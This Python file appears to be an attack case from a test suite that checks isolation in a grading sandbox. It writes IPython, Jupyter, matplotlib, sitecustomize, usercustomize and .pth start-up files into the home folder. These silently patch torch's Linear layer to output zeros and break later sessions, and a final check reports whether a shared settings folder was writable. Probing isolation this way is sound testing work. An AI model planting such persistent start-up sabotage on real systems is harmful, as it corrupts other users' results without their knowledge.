# attack: settings_left_in_the_home
# kind: persist
# tries: leaves start-up files of IPython, matplotlib, Python and Jupyter in its home, for whoever gets the same home
# seen: the next report differs, or a file in a folder that all submissions share
# deserves: nothing
# extra: before 3.2a
# %%
import os, site, sys
from pathlib import Path

spoil = 'import torch\ntorch.nn.Linear.forward = lambda self, x: x[:, :self.out_features] * 0\n'
home, version = Path.home(), f'python{sys.version_info.major}.{sys.version_info.minor}'
packages = Path(site.getusersitepackages())
files = {
    home / '.ipython/profile_default/startup/00-spoil.py': spoil,
    Path(os.environ['IPYTHONDIR']) / 'profile_default/startup/00-spoil.py': spoil,
    Path(os.environ['IPYTHONDIR']) / 'profile_default/ipython_config.py': 'c.InteractiveShellApp.exec_lines = ["1/0"]\n',
    home / '.config/matplotlib/matplotlibrc': 'figure.max_open_warning: 1\nlines.linestyle: None\n',
    home / '.jupyter/jupyter_server_config.py': spoil,
    packages / 'usercustomize.py': spoil, packages / 'sitecustomize.py': spoil,
    packages / 'spoil.pth': 'import usercustomize\n',
    home / f'.local/lib/{version}/site-packages/usercustomize.py': spoil,
    home / '.pythonrc.py': spoil, home / '.pythonstartup': spoil, home / 'matplotlibrc': 'lines.linestyle: None\n',
}
for path, text in files.items():
    try:
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)
    except OSError:
        continue
os.environ['PYTHONSTARTUP'] = str(home / '.pythonrc.py')
# this one is no folder of its own: the warm process has made it for all
try:
    Path(os.environ['MPLCONFIGDIR'], 'matplotlibrc').write_text('lines.linestyle: None\n')
except (OSError, KeyError):
    pass
else:
    raise RuntimeError("FELL: wrote matplotlib's settings for all")
